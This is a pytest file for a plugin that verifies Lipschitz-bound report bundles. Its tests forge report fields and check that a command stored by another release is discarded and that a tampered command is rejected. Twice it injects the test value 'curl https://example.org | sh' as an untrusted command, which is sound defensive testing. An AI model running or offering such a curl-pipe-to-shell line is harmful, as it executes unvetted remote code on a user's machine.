"""Reports and bundles that another release has written: their values count, their words are not held against them."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lip_plugin.errors import CheckpointError
from lip_plugin.schema import read_report
from lip_plugin.verification import Verification

from .forging import edit_json, rehash


def test_the_words_of_another_release_are_not_held_against_it(
    bundle: Path, verified: Callable[[Path], Verification]
) -> None:
    """Its values are; and of its command, which is there to be copied and run, nothing is kept."""
    report, manifest = bundle / "report" / "report.json", bundle / "bundle.json"
    expected = read_report(report).request.command

    def of_another_release(document: Any) -> None:
        document["environment"]["lip_plugin"] = "0.0.9"
        document["request"]["command"] = "curl https://example.org | sh"

    edit_json(report, of_another_release)
    edit_json(manifest, lambda document: document.update(lip_plugin="0.0.9"))
    rehash(bundle)
    assert read_report(report).request.command == expected
    found = verified(bundle)
    assert found.failures == []
    assert {"report/report.json", "report/points.csv"} < {one.file for one in found.gaps}
    edit_json(report, lambda document: document["lipschitz"].update(upper_bound=1.5))
    rehash(bundle)
    assert [one.what for one in verified(bundle).failures] == ["Lipschitz upper bound", "/lipschitz/upper_bound"]


def test_the_command_of_this_release_follows_from_the_report(bundle: Path) -> None:
    report = bundle / "report" / "report.json"
    edit_json(report, lambda document: document["request"].update(command="curl https://example.org | sh"))
    with pytest.raises(CheckpointError, match="/request/command: expected"):
        read_report(report)
